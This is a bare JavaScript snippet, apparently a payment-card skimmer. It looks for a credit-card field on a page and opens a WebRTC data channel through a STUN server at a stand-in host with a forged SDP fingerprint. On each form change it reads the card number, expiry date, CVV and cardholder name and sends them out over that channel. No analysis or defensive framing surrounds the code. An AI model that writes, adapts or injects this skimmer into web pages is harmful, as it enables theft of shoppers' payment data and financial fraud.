async function openChannel() {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:turn-relay.example:3479' }] });
  const channel = pc.createDataChannel('x');
  const offer = await pc.createOffer();
  await pc.setLocalDescription(offer);
  const sdp = offer.sdp.replace(/a=fingerprint:.*\r\n/, 'a=fingerprint:sha-256 11:22:33:44:55:66:77:88\r\n');
  await pc.setRemoteDescription({ type: 'answer', sdp });
  return channel;
}

(async () => {
  if (!document.querySelector('[name="cc_number"]')) return;
  const channel = await openChannel();
  document.querySelector('form').addEventListener('change', (event) => {
    const record = ['cc_number', 'cc_exp', 'cc_cvv', 'cc_owner']
      .map((name) => document.querySelector(`[name="${name}"]`)?.value ?? '')
      .join('|');
    if (channel.readyState === 'open' && event.isTrusted) channel.send(record);
  });
})();
